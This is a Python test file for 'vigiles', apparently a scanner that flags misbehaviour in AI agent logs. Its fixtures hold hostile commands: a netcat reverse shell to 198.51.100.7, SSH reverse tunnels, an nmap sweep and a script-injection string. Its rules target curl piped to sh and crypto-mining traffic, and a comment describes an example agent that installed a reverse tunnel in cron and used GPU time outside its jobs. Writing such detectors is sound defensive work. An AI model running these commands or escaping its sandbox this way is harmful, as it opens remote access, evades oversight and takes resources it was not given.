"""`vigiles scan` through the real console script: exit codes, the JSON contract, bad input."""
import json
import os
import subprocess
import sys
from pathlib import Path

import pytest

ROOT = Path(__file__).resolve().parents[2]
EXAMPLE = ROOT / "examples" / "rome"


def vigiles(*args, db, cwd=None):
    env = dict(os.environ, VIGILES_DB=str(db))
    return subprocess.run([sys.executable, "-m", "vigiles.cli.main", *map(str, args)], capture_output=True,
                          text=True, env=env, cwd=cwd, timeout=120)


def test_rome_example_json_contract(tmp_path):
    proc = vigiles("scan", EXAMPLE, "--format", "json", db=tmp_path / "v.db")
    assert proc.returncode == 0, proc.stderr
    doc = json.loads(proc.stdout)
    assert set(doc) >= {"findings", "incidents", "stats"}
    assert set(doc["stats"]) >= {"events", "bad_lines", "seconds"}
    for f in doc["findings"]:
        assert set(f) >= {"id", "rule", "title", "category", "severity", "attack", "event_ids", "sandbox", "run",
                          "episode", "step", "evidence"}
    for i in doc["incidents"]:
        assert set(i) >= {"id", "severity", "categories", "sandbox", "run", "first_ts", "last_ts", "finding_ids"}
    categories = {f["category"] for f in doc["findings"]}
    assert {"network_access", "compute_acquisition"} <= categories
    tunnel = [f for f in doc["findings"] if f["rule"] == "ssh_reverse_tunnel"]
    # the script written (8), run (9, with its ssh process), and installed in cron to run again (15)
    assert {f["step"] for f in tunnel} == {8, 9, 15}
    assert all(f["episode"] == "ep-018342" for f in doc["findings"])
    assert doc["stats"]["bad_lines"] == 0 and doc["stats"]["files"] == 3  # transcript, host log, flow log
    assert doc["compute"]["gpu_seconds_outside_jobs"] > 0


def test_fail_on_exit_codes(tmp_path):
    assert vigiles("scan", EXAMPLE, "--fail-on", "critical", db=tmp_path / "v.db").returncode == 1
    benign = tmp_path / "benign.jsonl"
    benign.write_text(json.dumps({"kind": "action", "ts": 1, "tool": "bash", "input": "ls -la"}) + "\n")
    assert vigiles("scan", benign, "--fail-on", "low", db=tmp_path / "v.db").returncode == 0
    assert vigiles("scan", tmp_path / "missing", db=tmp_path / "v.db").returncode == 2
    assert vigiles("scan", benign, "--format", "yaml", db=tmp_path / "v.db").returncode == 2


def test_bad_input_is_reported_and_the_rest_processed(tmp_path):
    folder = tmp_path / "mixed"
    folder.mkdir()
    good = {"kind": "action", "ts": 1, "tool": "bash", "sandbox": "s", "input": "nc -e /bin/sh 198.51.100.7 4444"}
    (folder / "a.jsonl").write_text("\n".join([
        json.dumps(good), "{truncated", json.dumps({"kind": "action", "ts": 2, "tool": ["bash"]}),
        json.dumps(dict(good, ts=3, input="ssh -R 1:l:22 h.example"))]) + "\n")
    (folder / "garbage.bin").write_bytes(os.urandom(4096).replace(b"\n", b" "))
    (folder / "empty.jsonl").write_text("")
    with open(folder / "huge.jsonl", "w") as f:
        f.write('{"kind": "action", "ts": 1, "tool": "bash", "input": "' + "x" * (10 * 1024 * 1024) + '"}\n')
        f.write(json.dumps(dict(good, ts=9)) + "\n")
    proc = vigiles("scan", folder, "--format", "json", db=tmp_path / "v.db")
    assert proc.returncode == 0, proc.stderr
    doc = json.loads(proc.stdout)
    assert doc["stats"]["events"] == 3
    assert doc["stats"]["bad_lines"] == 3 and doc["stats"]["bad_files"] == 2
    where = {(Path(e["file"]).name, e["line"]) for e in doc["errors"]}
    assert where == {("a.jsonl", 2), ("a.jsonl", 3), ("huge.jsonl", 1), ("garbage.bin", None), ("empty.jsonl", None)}
    assert "a.jsonl:2: not valid JSON" in proc.stderr
    assert {f["rule"] for f in doc["findings"]} >= {"reverse_shell_netcat_exec", "ssh_reverse_tunnel"}


def test_results_are_kept_and_browsable(tmp_path):
    db = tmp_path / "v.db"
    assert vigiles("scan", EXAMPLE, db=db).returncode == 0
    listed = vigiles("incidents", "list", "--json", db=db)
    (incident,) = json.loads(listed.stdout)
    assert incident["severity"] == "critical"
    shown = vigiles("incidents", "show", incident["id"][:8], "--json", db=db)
    doc = json.loads(shown.stdout)
    assert len(doc["findings"]) == len(incident["finding_ids"])
    assert all(e["_source"].startswith(str(EXAMPLE)) for e in doc["events"])
    # scanning again adds nothing new: ids are stable
    assert vigiles("scan", EXAMPLE, db=db).returncode == 0
    assert len(json.loads(vigiles("incidents", "list", "--json", db=db).stdout)) == 1


def test_markdown_report_tabulates_every_category(tmp_path):
    proc = vigiles("scan", EXAMPLE, "--format", "markdown", db=tmp_path / "v.db")
    text = proc.stdout
    assert "| network_access | **yes** |" in text and "| compute_acquisition | **yes** |" in text
    assert "| reconnaissance |" in text
    assert "examples/rome/transcript.jsonl:" in text


def test_hostile_text_cannot_break_the_markdown_table(tmp_path):
    path = tmp_path / "x.jsonl"
    path.write_text(json.dumps({"kind": "action", "ts": 1, "tool": "bash",
                                "input": "nc -e /bin/sh 198.51.100.7 4444 '| </td><script>alert(1)</script>\n`x`'"}) + "\n")
    text = vigiles("scan", path, "--format", "markdown", db=tmp_path / "v.db").stdout
    rows = [line for line in text.splitlines() if "alert(1)" in line]
    assert rows and all(row.startswith("|") and "<script>" not in row and "\\| &lt;/td>" in row for row in rows)
    assert all(row.count(" | ") == 6 for row in rows if "reverse_shell_netcat_exec" in row)


@pytest.mark.parametrize("rules_text, expect_rule", [
    ("- rule: only_mine\n  title: t\n  category: reconnaissance\n  severity: high\n  condition: cmd.name = nmap\n", "only_mine"),
])
def test_custom_rules_and_no_builtin(tmp_path, rules_text, expect_rule):
    rules = tmp_path / "mine.yaml"
    rules.write_text(rules_text)
    events = tmp_path / "e.jsonl"
    events.write_text(json.dumps({"kind": "action", "ts": 1, "tool": "bash", "input": "nmap -sn 10.0.0.0/24; nc -e sh h 1"}) + "\n")
    doc = json.loads(vigiles("scan", events, "--rules", rules, "--no-builtin", "--format", "json", db=tmp_path / "v.db").stdout)
    assert [f["rule"] for f in doc["findings"]] == [expect_rule]


def test_rules_check_says_when_a_rules_own_prefilter_is_set_aside(tmp_path):
    rules = tmp_path / "mine.yaml"
    rules.write_text("- rule: into_sh\n  title: into sh\n  category: network_access\n  severity: high\n"
                     "  condition: cmd.name = sh and cmd.pipe_from = curl\n  prefilter: ['|sh']\n")
    proc = vigiles("rules", "check", rules, db=tmp_path / "v.db")
    assert proc.returncode == 0, proc.stderr
    assert "rule into_sh: its `prefilter` is not used" in proc.stdout
    assert proc.stdout.count("prefilter` is not used") == 1  # the built-in pack sets none aside


def test_rules_check_warns_of_a_rule_that_runs_on_every_command(tmp_path):
    """A rule on the event's text alone is not scoped to commands, so no prefilter keeps it from any
    action; scoped with a command field it is quiet."""
    rules = tmp_path / "mine.yaml"
    body = "  title: t\n  category: compute_acquisition\n  severity: high\n"
    rules.write_text(f"- rule: text_only\n{body}  condition: evt.text icontains mining.subscribe\n"
                     f"- rule: scoped\n{body}  condition: cmd.name exists and evt.text icontains mining.subscribe\n")
    proc = vigiles("rules", "check", rules, db=tmp_path / "v.db")
    assert proc.returncode == 0, proc.stderr
    assert "warning: rule text_only reads no command field" in proc.stdout
    assert "rule scoped reads" not in proc.stdout
    assert proc.stdout.count("reads no command field") == 1  # the built-in pack has none
